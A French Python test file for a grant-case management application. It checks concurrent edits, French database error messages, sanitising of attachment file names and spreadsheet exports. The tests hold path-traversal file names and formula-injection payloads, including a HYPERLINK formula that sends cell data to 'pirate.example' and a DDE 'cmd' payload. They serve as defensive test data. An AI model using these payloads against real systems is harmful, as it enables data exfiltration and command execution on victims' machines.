"""Fiabilité (issue 18, points 5 et 6) : deux postes au même instant, et les erreurs de la base dites en
français avec quoi faire. Deux vrais contextes (deux moteurs, deux connexions), sur SQLite et PostgreSQL.

Pour « au même instant », le poste A garde sa transaction ouverte pendant que le poste B commence la
sienne dans un fil ; on attend que B soit réellement bloqué (sur PostgreSQL : une attente de verrou visible
dans ``pg_stat_activity`` ; sur SQLite : B a lancé sa première instruction, et SQLite le fait attendre
l'écriture de A), puis A valide.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import threading
import time
from decimal import Decimal

import pytest
from sqlalchemy import event, func, insert, select, text, update

from instruction.domaine import droits
from instruction.domaine import dossier as d
from instruction.db import connexion as cx
from instruction.db import modeles as m
from instruction.domaine.erreurs import (
    BaseEnLectureSeule,
    BaseOccupee,
    Conflit,
    ConnexionPerdue,
    DonneesInvalides,
    Doublon,
    ErreurInstruction,
    ValeurRefusee,
)
from instruction.domaine.etats import Etat
from instruction.domaine.horloge import aujourd_hui
from instruction.services import avis
from instruction.services import dossier as service_dossier
from instruction.services import instruction as service_instruction
from instruction.services import montants_accordes
from instruction.services.contexte import ouvrir
from tests import fabrique

ATTENTE_MAXIMALE = 60  # secondes : au-delà, le test échoue (B n'a jamais attendu A)


@dataclasses.dataclass
class Postes:
    a: object
    b: object
    dossier: int
    equipe: fabrique.Equipe


@pytest.fixture
def postes(contexte):
    equipe = fabrique.Equipe(contexte)
    contexte.utilisateur = equipe.instructeur
    dossier_id = fabrique.dossier(contexte)
    autre = ouvrir(contexte.url)
    autre.utilisateur = equipe.admin
    assert autre.moteur is not contexte.moteur
    yield Postes(contexte, autre, dossier_id, equipe)
    autre.fermer()


class PosteEnAttente:
    """Lance ``action(uow)`` (puis valide) sur le poste B dans un fil ; rend son résultat ou son erreur."""

    def __init__(self, poste, action) -> None:
        self.poste, self.action = poste, action
        self.resultat = self.erreur = None
        self.commence = threading.Event()
        self._ecoute = lambda *_a, **_k: self.commence.set()
        event.listen(poste.moteur, "before_cursor_execute", self._ecoute)
        self.fil = threading.Thread(target=self._travail, daemon=True)
        self.fil.start()

    def _travail(self) -> None:
        try:
            with self.poste.unite() as uow:
                self.resultat = self.action(uow)
                uow.valider()
        except BaseException as erreur:  # noqa: BLE001 — rendu au test
            self.erreur = erreur

    def attendre_qu_il_bloque(self, poste_a) -> None:
        """Attend que B soit bloqué derrière la transaction ouverte de A."""
        assert self.commence.wait(ATTENTE_MAXIMALE), "le poste B n'a rien lancé"
        if poste_a.est_sqlite:  # B attend l'écriture de A dans BEGIN IMMEDIATE (busy_timeout)
            return
        limite = time.monotonic() + ATTENTE_MAXIMALE
        with poste_a.moteur.connect() as connexion:
            while connexion.scalar(text(
                    "select count(*) from pg_stat_activity where datname = current_database() "
                    "and wait_event_type = 'Lock'")) == 0:
                assert self.fil.is_alive(), f"B a fini sans attendre A : {self.erreur or self.resultat}"
                assert time.monotonic() < limite, "B n'attend pas le verrou de A"
                connexion.rollback()
                time.sleep(0.02)

    def fin(self):
        self.fil.join(ATTENTE_MAXIMALE)
        event.remove(self.poste.moteur, "before_cursor_execute", self._ecoute)
        assert not self.fil.is_alive(), "le poste B est resté bloqué"
        return self.resultat, self.erreur


def _saisie(poste) -> d.DonneesDossier:
    with poste.unite() as uow:
        campagne_id = uow.session.scalar(select(m.Campagne.id))
        porteur_id = uow.session.scalar(select(m.Porteur.id))
    return d.valider(fabrique.saisie(campagne_id, porteur_id))


def _numeros(poste) -> list[str]:
    with poste.unite() as uow:
        return list(uow.session.scalars(select(m.Dossier.numero).order_by(m.Dossier.numero)))


# --- Point 5 : deux postes créent un dossier dans la même campagne au même instant ----------------------


def test_deux_postes_creent_un_dossier_au_meme_instant_chacun_son_numero(postes):
    """Avant : sur PostgreSQL, le second échouait 5 fois sur 5 (numéro en double) ; maintenant il attend le
    premier et prend le numéro suivant, trois fois de suite."""
    donnees = _saisie(postes.a)
    for _tour in range(3):
        with postes.a.unite() as uow_a:
            id_a = service_dossier.enregistrer(uow_a, None, donnees)
            b = PosteEnAttente(postes.b, lambda uow: service_dossier.enregistrer(uow, None, donnees))
            b.attendre_qu_il_bloque(postes.a)
            uow_a.valider()
        id_b, erreur = b.fin()
        assert erreur is None, erreur
        assert id_b != id_a
    assert _numeros(postes.a) == [f"CDV-2027-{rang:03d}" for rang in range(1, 8)]


def test_un_numero_n_est_jamais_redonne_et_les_numeros_existants_comptent(postes):
    donnees = _saisie(postes.a)
    with postes.a.unite() as uow:  # un numéro donné hors de l'application (import, base d'avant 0006)
        uow.session.get(m.Dossier, postes.dossier).numero = "CDV-2027-041"
        uow.valider()
    with postes.a.unite() as uow:
        nouveau = service_dossier.enregistrer(uow, None, donnees)
        uow.valider()
    with postes.a.unite() as uow:  # le dernier est effacé : son numéro n'est pas redonné
        assert uow.session.get(m.Dossier, nouveau).numero == "CDV-2027-042"
        uow.session.delete(uow.session.get(m.Dossier, nouveau))
        uow.valider()
    with postes.b.unite() as uow:
        encore = service_dossier.enregistrer(uow, None, donnees)
        uow.valider()
    with postes.b.unite() as uow:
        assert uow.session.get(m.Dossier, encore).numero == "CDV-2027-043"


# --- Point 6 : montants accordés versionnés, un avis demandé une seule fois ------------------------------


def _retenu(poste, dossier_id) -> int:
    """Le dossier décidé « retenu » (posé directement : le circuit est testé ailleurs) ; rend la version
    de ses montants."""
    with poste.unite() as uow:
        uow.session.get(m.Dossier, dossier_id).etat = Etat.RETENU
        uow.valider()
    with poste.unite() as uow:
        return service_instruction.lire(uow, dossier_id).version_montants


def _montants(poste, dossier_id) -> dict[str, Decimal]:
    with poste.unite() as uow:
        return {f.financeur: f.accorde for f in montants_accordes.financements(uow, dossier_id)
                if f.accorde is not None}


def _corriger(poste, dossier_id, montants, version):
    """Comme l'écran : l'action de la section Instruction, avec la version des montants qu'il a lus."""
    from instruction.services.actions import instruction as actions_instruction

    etat = actions_instruction.modifier_montants_accordes(poste, dossier_id, montants, version).valeur
    assert etat.version_montants is not None


def test_montants_accordes_corriges_par_deux_postes_le_second_est_refuse(postes):
    version = _retenu(postes.a, postes.dossier)
    assert version == 0
    _corriger(postes.a, postes.dossier, {"ville-calais": Decimal("1500.00")}, version)  # A, depuis la version 0
    with pytest.raises(Conflit) as conflit:  # B avait lu la version 0 lui aussi
        _corriger(postes.b, postes.dossier, {"ville-calais": Decimal("900.00"), "etat-pv": Decimal("10")}, version)
    erreur = conflit.value
    assert "m.lefebvre" in erreur.message and "montants accordés" in erreur.message
    assert [(c.acteur, c.nouveau) for c in erreur.changements] == [("m.lefebvre", "1\u202f500,00\u00a0€")]
    assert "1\u202f500,00" in erreur.detail
    assert erreur.version == 1
    assert _montants(postes.a, postes.dossier) == {"ville-calais": Decimal("1500.00")}  # rien d'écrasé
    # Relire puis corriger passe ; enregistrer ce qui est déjà en base ne refuse rien et n'écrit rien.
    with postes.b.unite() as uow:
        relue = service_instruction.lire(uow, postes.dossier).version_montants
    _corriger(postes.b, postes.dossier, {"ville-calais": Decimal("900.00")}, relue)
    _corriger(postes.a, postes.dossier, {"ville-calais": Decimal("900.00")}, relue)
    assert _montants(postes.a, postes.dossier) == {"ville-calais": Decimal("900.00")}
    with postes.a.unite() as uow:
        assert service_instruction.lire(uow, postes.dossier).version_montants == 2


def test_montants_accordes_enregistres_au_meme_instant_le_second_attend_puis_est_refuse(postes):
    version = _retenu(postes.a, postes.dossier)
    with postes.a.unite() as uow_a:
        montants_accordes.modifier_montants_accordes(uow_a, postes.dossier, {"ville-calais": Decimal("1500")},
                                                       version=version)
        b = PosteEnAttente(postes.b, lambda uow: montants_accordes.modifier_montants_accordes(
            uow, postes.dossier, {"ville-calais": Decimal("700")}, version=version))
        b.attendre_qu_il_bloque(postes.a)
        uow_a.valider()
    _resultat, erreur = b.fin()
    assert isinstance(erreur, Conflit), erreur
    assert _montants(postes.a, postes.dossier) == {"ville-calais": Decimal("1500.00")}


def _referent(poste, dossier_id, equipe) -> avis.Destinataire:
    with poste.unite() as uow:
        return next(x for x in avis.destinataires(uow, dossier_id) if x.compte_id == equipe.referent.id)


def test_le_meme_avis_demande_par_deux_postes_au_meme_instant_est_cree_une_fois(postes):
    referent = _referent(postes.a, postes.dossier, postes.equipe)
    echeance = aujourd_hui() + dt.timedelta(days=15)
    with postes.a.unite() as uow_a:
        avis.demander(uow_a, postes.dossier, [referent], echeance)
        b = PosteEnAttente(postes.b, lambda uow: avis.demander(uow, postes.dossier, [referent], echeance))
        b.attendre_qu_il_bloque(postes.a)
        uow_a.valider()
    _resultat, erreur = b.fin()
    assert isinstance(erreur, DonneesInvalides), erreur
    assert "Rémi Urbain" in erreur.message and "déjà demandé" in erreur.message
    with postes.a.unite() as uow:
        assert uow.session.scalar(select(func.count()).select_from(m.DemandeAvis)
                                  .where(m.DemandeAvis.dossier_id == postes.dossier)) == 1


def test_la_base_refuse_une_seconde_demande_au_meme_destinataire(contexte):
    """La contrainte elle-même, hors du service (un import, un script) : dite en français."""
    equipe = fabrique.Equipe(contexte)
    dossier_id = fabrique.dossier(contexte)
    ligne = dict(dossier_id=dossier_id, financeur_code="ville-calais", echeance=dt.date(2027, 1, 1),
                 demandee_par="x", demandee_le=dt.datetime(2026, 12, 1))
    with contexte.unite() as uow:
        uow.session.execute(insert(m.DemandeAvis).values(**ligne))
        uow.valider()
    with pytest.raises(Doublon, match="déjà demandé à ce cofinanceur"):
        with contexte.unite() as uow:
            uow.session.execute(insert(m.DemandeAvis).values(**ligne))
            uow.valider()
    with contexte.unite() as uow:  # la contrainte ne gêne que le doublon : le référent, lui, passe
        uow.session.execute(insert(m.DemandeAvis).values(**(ligne | dict(financeur_code=None,
                                                                         destinataire_id=equipe.referent.id))))
        uow.valider()


# --- Point 5 : les erreurs de la base, en français, avec quoi faire -------------------------------------


def _enregistrer_intitule(poste, dossier_id, intitule):
    with poste.unite() as uow:
        fiche = service_dossier.lire(uow, dossier_id)
        service_dossier.enregistrer(uow, dossier_id, dataclasses.replace(fiche.donnees, intitule=intitule),
                                    fiche.version)
        uow.valider()


def _intitule(poste, dossier_id) -> str:
    with poste.unite() as uow:
        return uow.session.get(m.Dossier, dossier_id).intitule


def test_un_doublon_est_dit_en_francais(contexte):
    campagne_id = fabrique.campagne(contexte)
    with contexte.unite() as uow:
        campagne = uow.session.get(m.Campagne, campagne_id)
        cle = (campagne.dispositif_code, campagne.annee)
    with pytest.raises(Doublon) as erreur:
        with contexte.unite() as uow:
            uow.session.execute(insert(m.Campagne).values(dispositif_code=cle[0], annee=cle[1], libelle="Copie"))
    assert "Cette campagne (dispositif et année) existe déjà" in erreur.value.message
    assert "reste à l'écran" in erreur.value.message and erreur.value.detail


def test_un_verrou_garde_trop_longtemps_est_dit_en_francais(url_base, monkeypatch):
    """Un autre programme garde la base (ou la fiche) : après l'attente, un message dit de réessayer."""
    monkeypatch.setattr(cx, "ATTENTE_VERROU_SECONDES", 1)
    contexte = ouvrir(url_base)
    try:
        contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
        dossier_id = fabrique.dossier(contexte, complet=False)
        autre = ouvrir(url_base)
        try:
            with autre.moteur.connect() as verrou:  # une écriture laissée en cours sur la fiche
                verrou.execute(update(m.Dossier).where(m.Dossier.id == dossier_id).values(resume="verrou"))
                with pytest.raises(BaseOccupee) as erreur:
                    _enregistrer_intitule(contexte, dossier_id, "Nouvel intitulé")
                verrou.rollback()
        finally:
            autre.fermer()
        assert "Réessayez" in erreur.value.message and "reste à l'écran" in erreur.value.message
        assert _intitule(contexte, dossier_id) != "Nouvel intitulé"
        _enregistrer_intitule(contexte, dossier_id, "Nouvel intitulé")  # le verrou parti, tout repasse
        assert _intitule(contexte, dossier_id) == "Nouvel intitulé"
    finally:
        contexte.fermer()


def test_une_erreur_du_programme_n_est_pas_deguisee(contexte):
    """Une requête mal écrite est un défaut : elle remonte telle quelle, avec sa trace."""
    from sqlalchemy.exc import OperationalError, ProgrammingError

    with pytest.raises((ProgrammingError, OperationalError)) as erreur:
        with contexte.unite() as uow:
            uow.session.execute(text("select colonne_inconnue from dossier"))
    assert not isinstance(erreur.value, ErreurInstruction)


def test_postgresql_transaction_en_lecture_seule(contexte):
    """Le serveur refuse l'écriture (base figée par l'administrateur, serveur de secours) : l'erreur
    25006 du vrai serveur, provoquée ici par ``SET TRANSACTION READ ONLY``."""
    if contexte.est_sqlite:
        pytest.skip("sur SQLite : test_sqlite_fichier_en_lecture_seule")
    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    with pytest.raises(BaseEnLectureSeule) as erreur:
        with contexte.unite() as uow:
            uow.session.execute(text("set transaction read only"))
            fiche = service_dossier.lire(uow, dossier_id)
            service_dossier.enregistrer(uow, dossier_id, dataclasses.replace(fiche.donnees, intitule="Figé"),
                                        fiche.version)
            uow.valider()
    assert "lecture seule" in erreur.value.message and "reste à l'écran" in erreur.value.message
    assert _intitule(contexte, dossier_id) != "Figé"


def test_postgresql_base_figee_en_lecture_seule_par_l_administrateur(contexte, url_base):
    """L'administrateur fige la base (``ALTER DATABASE … SET default_transaction_read_only``) : les lectures
    marchent, une écriture est refusée en français — même sur une connexion qui vient de servir à une lecture
    (SQLAlchemy la remettait en « READ WRITE » explicite, qui passait outre le réglage)."""
    from sqlalchemy import create_engine
    from sqlalchemy.engine import make_url

    from instruction.services.actions import dossier as actions_dossier
    from instruction.services.contexte import ouvrir

    if contexte.est_sqlite:
        pytest.skip("sur SQLite : test_sqlite_fichier_en_lecture_seule")
    administrateur = contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    contexte.fermer()
    nom = make_url(url_base).database
    admin = create_engine(url_base, isolation_level="AUTOCOMMIT")
    with admin.connect() as connexion:
        connexion.execute(text(f'alter database "{nom}" set default_transaction_read_only = on'))
    try:
        poste = ouvrir(url_base, synchroniser_referentiel=False)
        poste.utilisateur = administrateur
        try:
            fiche = actions_dossier.lire(poste, dossier_id)  # une lecture d'abord, sur la même connexion
            with pytest.raises(BaseEnLectureSeule):
                actions_dossier.enregistrer(poste, dossier_id, dataclasses.replace(fiche.donnees, intitule="Figé"),
                                            fiche.version, "dossier:essai")
        finally:
            poste.fermer()
    finally:
        with admin.connect() as connexion:
            connexion.execute(text(f'alter database "{nom}" reset default_transaction_read_only'))
        admin.dispose()
    relu = ouvrir(url_base, synchroniser_referentiel=False)
    try:
        assert actions_dossier.lire(relu, dossier_id).donnees.intitule != "Figé"
    finally:
        relu.fermer()


LECTURE_SEULE = """
import dataclasses, sys
from instruction.domaine.droits import Utilisateur
from instruction.services import dossier as service_dossier
from instruction.services.contexte import ouvrir
contexte = ouvrir(sys.argv[1])
contexte.utilisateur = eval(sys.argv[3])
with contexte.unite() as uow:
    print(service_dossier.lire(uow, int(sys.argv[2])).donnees.intitule)
try:
    with contexte.unite() as uow:
        fiche = service_dossier.lire(uow, int(sys.argv[2]))
        service_dossier.enregistrer(uow, fiche.id, dataclasses.replace(fiche.donnees, intitule="Figé"), fiche.version)
        uow.valider()
except Exception as erreur:
    print(type(erreur).__name__, erreur)
"""


def test_sqlite_fichier_en_lecture_seule(tmp_path):
    """Une base posée en lecture seule (copie sur un partage protégé) : on la lit ; enregistrer dit
    pourquoi c'est impossible et quoi demander. Sous root, le poste tourne sans le droit de passer outre
    (setpriv), comme un instructeur."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    fichier = tmp_path / "instruction.sqlite"
    url = f"sqlite:///{fichier}"
    contexte = ouvrir(url)
    try:
        marie = contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
        dossier_id = fabrique.dossier(contexte, complet=False)
        intitule = _intitule(contexte, dossier_id)
    finally:
        contexte.fermer()
    fichier.chmod(0o444)
    commande = [sys.executable, "-c", LECTURE_SEULE, url, str(dossier_id), repr(marie)]
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("setpriv (util-linux) manque pour tester les droits sous root")
        commande = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *commande]
    resultat = subprocess.run(commande, capture_output=True, text=True, timeout=120,
                              cwd=Path(__file__).resolve().parent.parent)
    lignes = resultat.stdout.splitlines()
    assert lignes and lignes[0] == intitule, resultat.stderr
    assert lignes[1].startswith("BaseEnLectureSeule") and "lecture seule" in lignes[1], resultat.stdout
    assert "reste à l'écran" in lignes[1] and "droits d'écriture" in lignes[1]
    fichier.chmod(0o644)
    contexte = ouvrir(url)
    try:
        assert _intitule(contexte, dossier_id) == intitule
    finally:
        contexte.fermer()


def test_postgresql_connexion_perdue_pendant_l_enregistrement(contexte):
    """Le serveur coupe la connexion au milieu d'un enregistrement : message clair, rien d'écrit, et le
    poste retrouve une connexion pour l'essai suivant."""
    if contexte.est_sqlite:
        pytest.skip("SQLite n'a pas de réseau")
    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    with pytest.raises(ConnexionPerdue) as erreur:
        with contexte.unite() as uow:
            fiche = service_dossier.lire(uow, dossier_id)
            service_dossier.enregistrer(uow, dossier_id, dataclasses.replace(fiche.donnees, intitule="Coupé"),
                                        fiche.version)
            pid = uow.session.scalar(text("select pg_backend_pid()"))
            with contexte.moteur.connect() as autre:
                assert autre.scalar(text("select pg_terminate_backend(:pid)"), {"pid": pid})
            uow.valider()
    assert "connexion au serveur" in erreur.value.message and "réseau" in erreur.value.message
    assert _intitule(contexte, dossier_id) != "Coupé"
    _enregistrer_intitule(contexte, dossier_id, "Après la coupure")
    assert _intitule(contexte, dossier_id) == "Après la coupure"


@pytest.mark.parametrize("colonne, valeur, attendu", [
    ("libelle", "x" * 201, "trop long pour la base (200 caractères au plus)"),
    ("libelle", "avec un \x00 nul", "caractère invisible"),
    ("annee", 2**40, "dépasse ce que la base peut garder"),
])
def test_postgresql_valeur_refusee_est_dite_en_francais(contexte, colonne, valeur, attendu):
    """Une valeur arrivée jusqu'à la base sans passer par un formulaire (import, script)."""
    if contexte.est_sqlite:
        pytest.skip("SQLite garde ces valeurs telles quelles")
    ligne = {"dispositif_code": "cdv", "annee": 2031, "libelle": "AAP 2031"} | {colonne: valeur}
    with pytest.raises(ValeurRefusee) as erreur:
        with contexte.unite() as uow:
            uow.session.execute(insert(m.Campagne).values(**ligne))
            uow.valider()
    assert attendu in erreur.value.message and "reste à l'écran" in erreur.value.message


# --- Point 2 : une pièce jointe ne sort jamais de son dossier ------------------------------------------

NOMS_HOSTILES = [
    ("../x.pdf", "x.pdf"),
    ("../../../../etc/cron.d/tache", "tache"),
    ("/etc/passwd", "passwd"),
    ("..", "piece"),
    (".", "piece"),
    ("..\\..\\Windows\\System32\\evil.dll", "evil.dll"),
    ("C:\\Users\\marie\\Bureau\\budget.xlsx", "budget.xlsx"),
    ("C:budget.xlsx", "budget.xlsx"),
    ("\\\\serveur\\partage\\convention.pdf", "convention.pdf"),
    ("CON", "_CON"),
    ("nul .pdf", "_nul .pdf"),
    ("com1.tar.gz", "_com1.tar.gz"),
    ("LPT9.txt", "_LPT9.txt"),
    ("bilan\x00.pdf\x07", "bilan_.pdf_"),
    ("rapport:flux.pdf", "rapport_flux.pdf"),
    ('le "bilan" <final>?*|.pdf', "le _bilan_ _final____.pdf"),
    ("devis. . ", "devis"),
    ("   ", "piece"),
    ("Compte rendu d'activité 2026.pdf", "Compte rendu d'activité 2026.pdf"),
]


_TYPE_PIECE = "statuts"


@pytest.mark.parametrize("nom, attendu", NOMS_HOSTILES)
def test_un_nom_de_piece_est_assaini_pour_windows_et_linux(nom, attendu):
    from instruction.fichiers_temporaires import nom_sur

    assert nom_sur(nom) == attendu


def test_un_nom_trop_long_garde_son_extension_et_tient_en_255_octets():
    from instruction.fichiers_temporaires import nom_sur

    propre = nom_sur("é" * 300 + ".pdf")
    assert propre.endswith(".pdf") and len(propre.encode("utf-8")) <= 255 and set(propre[:-4]) == {"é"}


def test_une_piece_jointe_est_gardee_sous_un_nom_assaini(contexte):
    from instruction.services import pieces

    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    with contexte.unite() as uow:
        noms = [pieces.ajouter(uow, dossier_id, _TYPE_PIECE, nom, b"%PDF-1.4 essai").nom_fichier
                for nom in ("..\\..\\budget.pdf", "C:\\Temp\\CON.pdf", "../../../.bashrc")]
        uow.valider()
    assert noms == ["budget.pdf", "_CON.pdf", "bashrc"]
    with contexte.unite() as uow:
        assert sorted(uow.session.scalars(select(m.Piece.nom_fichier).where(m.Piece.dossier_id == dossier_id))) \
            == sorted(noms)


def test_ouvrir_une_piece_au_nom_hostile_ecrit_dans_le_dossier_prive(contexte, tmp_path):
    """Un nom lu en base n'est jamais cru : même écrit par une version d'avant (ou à la main), la copie
    reste dans le dossier privé (0700) ; le dossier disparaît à la fermeture."""
    import stat

    from instruction import fichiers_temporaires as ft
    from instruction.services import pieces

    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    cible = tmp_path / "cible"
    cible.mkdir()
    hostiles = ["../" * 12 + str(cible / "ecrase.txt").lstrip("/"), str(cible / "absolu.txt"), "..", "CON"]
    with contexte.unite() as uow:
        ids = [pieces.ajouter(uow, dossier_id, _TYPE_PIECE, "sain.pdf", f"contenu {i}".encode()).id
               for i in range(len(hostiles))]
        for piece_id, nom in zip(ids, hostiles, strict=True):  # comme une base d'avant l'assainissement
            uow.session.execute(update(m.Piece).where(m.Piece.id == piece_id).values(nom_fichier=nom))
        uow.valider()
    ecrits = []
    try:
        for piece_id in ids:
            with contexte.unite() as uow:
                nom, contenu = pieces.contenu(uow, piece_id)
            ecrits.append((ft.copie_de_travail(nom, contenu), contenu))
        racine = ft.dossier_des_copies()
        assert stat.S_IMODE(racine.stat().st_mode) == 0o700
        for fichier, contenu in ecrits:
            assert fichier.resolve().is_relative_to(racine) and fichier.read_bytes() == contenu
            assert stat.S_IMODE(fichier.parent.stat().st_mode) == 0o700
        assert [f.name for f, _c in ecrits] == ["ecrase.txt", "absolu.txt", "piece", "_CON"]
        assert list(cible.iterdir()) == []  # rien d'écrit hors du dossier privé
        assert len({f.parent for f, _c in ecrits}) == len(ecrits)  # même nom : pas d'écrasement
    finally:
        ft.effacer_copies_de_travail()
    assert not racine.exists()
    nouvelle = ft.copie_de_travail("après.pdf", b"x")  # un nouveau dossier privé au besoin
    assert nouvelle.parent.parent != racine
    ft.effacer_copies_de_travail()


FERMETURE = """
import os, sys
from PySide6.QtCore import QTimer
from instruction import fichiers_temporaires as ft
from instruction.ui import application
copie = ft.copie_de_travail("../convention.pdf", b"%PDF-1.4")
print(copie.parent.parent)
app = application.creer_application([])
QTimer.singleShot(0, app.quit)
application.lancer(sys.argv[1], [])
print(os.path.exists(copie.parent.parent))
"""


def test_les_copies_sont_effacees_quand_l_application_se_ferme(tmp_path):
    import subprocess
    import sys
    from pathlib import Path

    url = f"sqlite:///{tmp_path / 'instruction.sqlite'}"
    resultat = subprocess.run([sys.executable, "-c", FERMETURE, url], capture_output=True, text=True, timeout=120,
                              cwd=Path(__file__).resolve().parent.parent,
                              env={**__import__("os").environ, "QT_QPA_PLATFORM": "offscreen"})
    lignes = resultat.stdout.splitlines()
    assert len(lignes) >= 2, resultat.stderr
    assert lignes[-1] == "False", "lancer() a rendu la main sans effacer les copies"
    assert not Path(lignes[0]).exists()


# --- Point 4 : aucun export ne change un texte en formule ; les contrôles refusés à la saisie -----------

HOSTILES = ['=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SOMME(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _relu(texte: str) -> str:
    """Le texte tel qu'un classeur le rend : écrit par lxml (dépendance), un retour chariot est gardé (&#13;) ;
    sans lui, le XML d'un .xlsx le ramène à un saut de ligne."""
    from openpyxl import LXML

    return texte if LXML else texte.replace("\r", "\n")


def _ligne_liste(numero: str, intitule: str, porteur: str = "Centre social Matisse"):
    from instruction.services.lignes import LigneDossier

    return LigneDossier(1, numero, intitule, porteur, "CDV", 2027, "Beau Marais", "depose",
                        dt.datetime(2026, 11, 2, 9, 30), 150000, 75000, dt.date(2026, 11, 2))


def test_la_liste_des_dossiers_exportee_garde_les_textes_hostiles_en_texte(tmp_path):
    """Avant : « =HYPERLINK(…) » devenait une formule du classeur (type f). Maintenant : du texte, relu tel
    quel ; les totaux écrits par le programme restent des formules."""
    from openpyxl import load_workbook

    from instruction.rapports.liste_dossiers import exporter

    lignes = [_ligne_liste(f"CDV-2027-{i:03d}", texte, porteur=texte) for i, texte in enumerate(HOSTILES, 1)]
    lignes.append(_ligne_liste("CDV-2027-099", "Contrôles gardés avant\x00 : \x07\x1b fin"))
    fichier = exporter(lignes, tmp_path / "liste.xlsx", titre="Dossiers [2027] / CDV ?")
    classeur = load_workbook(fichier)
    feuille = classeur.active
    assert feuille.title == "Dossiers  2027    CDV"
    for rang, texte in enumerate(HOSTILES, start=2):
        for colonne in (2, 3):
            cellule = feuille.cell(rang, colonne)
            assert (cellule.data_type, cellule.value) == ("s", _relu(texte)), (rang, colonne)
            assert cellule.quotePrefix
    controles = feuille.cell(len(HOSTILES) + 2, 2)
    assert (controles.data_type, controles.value) == ("s", "Contrôles gardés avant\u2400 : \u2407\u241b fin")
    total = feuille.cell(len(lignes) + 2, 9)
    assert (total.data_type, total.value) == ("f", f"=SUM(I2:I{len(lignes) + 1})")
    formules = [c for rangee in feuille.iter_rows() for c in rangee if c.data_type == "f"]
    assert formules and all(c.row == len(lignes) + 2 and c.value.startswith("=SUM(") for c in formules)


def test_l_historique_exporte_garde_les_textes_hostiles_en_texte(tmp_path):
    from openpyxl import load_workbook

    from instruction.rapports.historique import exporter
    from instruction.services.historique import Entree

    entrees = [Entree(i, dt.datetime(2026, 11, 2, 8, 0), "m.lefebvre", "dossier", "modification", "Intitulé",
                      "ancien\x00", texte) for i, texte in enumerate(HOSTILES, 1)]
    feuille = load_workbook(exporter(entrees, tmp_path / "historique", titre="=Historique")).active
    assert (feuille.cell(1, 1).data_type, feuille.cell(1, 1).value) == ("s", "=Historique")
    for rang, texte in enumerate(HOSTILES, start=3):
        assert (feuille.cell(rang, 7).data_type, feuille.cell(rang, 7).value) == ("s", _relu(texte))
        assert feuille.cell(rang, 6).value == "ancien\u2400"
    assert not [c for rangee in feuille.iter_rows() for c in rangee if c.data_type == "f"]


def test_tout_classeur_enregistre_est_protege_meme_ecrit_sans_les_aides(tmp_path):
    """Un export à venir qui oublierait ``ajouter`` : l'enregistrement rend quand même ses textes en texte."""
    from openpyxl import Workbook, load_workbook

    from instruction.rapports import tableur

    classeur = Workbook()
    feuille = classeur.active
    feuille.append(["=1+1", "-1", "texte", 3])
    tableur.ecrire(feuille, 2, 1, tableur.Formule("=SUM(D1:D1)"))
    relu = load_workbook(tableur.enregistrer(classeur, tmp_path / "a.xlsx")).active
    assert [(c.data_type, c.value) for c in relu[1]] == [("s", "=1+1"), ("s", "-1"), ("s", "texte"), ("n", 3)]
    assert (relu["A2"].data_type, relu["A2"].value) == ("f", "=SUM(D1:D1)")


@pytest.mark.parametrize("texte", ["avec un \x00 nul", "échappement \x1b[31m rouge", "cloche \x07", "\x7f"])
def test_un_caractere_de_controle_est_refuse_a_la_saisie(texte):
    from instruction.domaine.validation import Verificateur

    verificateur = Verificateur()
    assert verificateur.texte("intitule", texte, "Intitulé de l'action") is None
    message = verificateur.par_champ()["intitule"]
    assert message.startswith("Intitulé de l'action : le texte contient un caractère invisible interdit (U+")
    assert "copier-coller" in message
    # Tabulations et sauts de ligne restent permis (textes sur plusieurs lignes, collés d'un tableur).
    assert Verificateur().texte("resume", "ligne 1\r\nligne 2\tsuite", "Résumé") == "ligne 1\r\nligne 2\tsuite"


def test_un_caractere_de_controle_est_refuse_par_tout_service_sans_rien_ecrire(contexte):
    """Hors formulaire (un motif, un commentaire…), le filet de la base refuse aussi, en français."""
    contexte.utilisateur = fabrique.compte(contexte, "m.lefebvre", droits.ADMINISTRATEUR)
    dossier_id = fabrique.dossier(contexte, complet=False)
    avant = fabrique.photographie(contexte)
    with pytest.raises(DonneesInvalides, match=r"caractère invisible interdit \(U\+0000\)") as erreur:
        with contexte.unite() as uow:
            service_instruction.changer_etat(uow, dossier_id, Etat.SANS_SUITE, "Abandon\x00 du porteur")
            uow.valider()
    assert "« motif » (transition)" in erreur.value.message
    assert fabrique.photographie(contexte) == avant
    with contexte.unite() as uow:  # une valeur d'avant, gardée telle quelle, n'empêche pas d'en changer une autre
        uow.session.execute(update(m.Dossier).where(m.Dossier.id == dossier_id).values(resume="ancien\x07"))
        uow.valider()
    with contexte.unite() as uow:
        uow.session.get(m.Dossier, dossier_id).lieux = "Salle Matisse"
        uow.valider()
